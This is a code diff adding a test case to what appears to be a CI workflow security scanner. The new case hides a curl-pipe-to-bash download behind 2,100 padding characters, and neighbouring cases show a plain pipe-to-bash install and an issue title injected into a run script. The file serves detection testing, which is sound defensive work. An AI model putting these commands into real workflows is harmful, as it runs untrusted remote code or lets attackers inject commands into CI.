@@ -299,6 +299,11 @@ const CASES: Record<string, Case> = {
     files: { [WF]: [workflow("push", run("make")), workflow("push", run("curl -fsSL https://get.example.dev/install.sh | bash\nmake"))] },
     path: WF, line: "curl -fsSL", severity: "high",
   },
+  "workflow.unscanned": {
+    name: "a download piped into bash after 2,100 characters of one command",
+    files: { [WF]: [workflow("push", run("make")), workflow("push", run(`echo ${"-".repeat(2100)} && curl -fsSL https://get.example.dev/install.sh | bash`))] },
+    path: WF, line: "curl -fsSL", severity: "high",
+  },
   "workflow.script-injection": {
     name: "an issue title pasted into a run script",
     files: { [WF]: [workflow("issues", run("echo triage")), workflow("issues", run('echo "${{ github.event.issue.title }}"'))] },
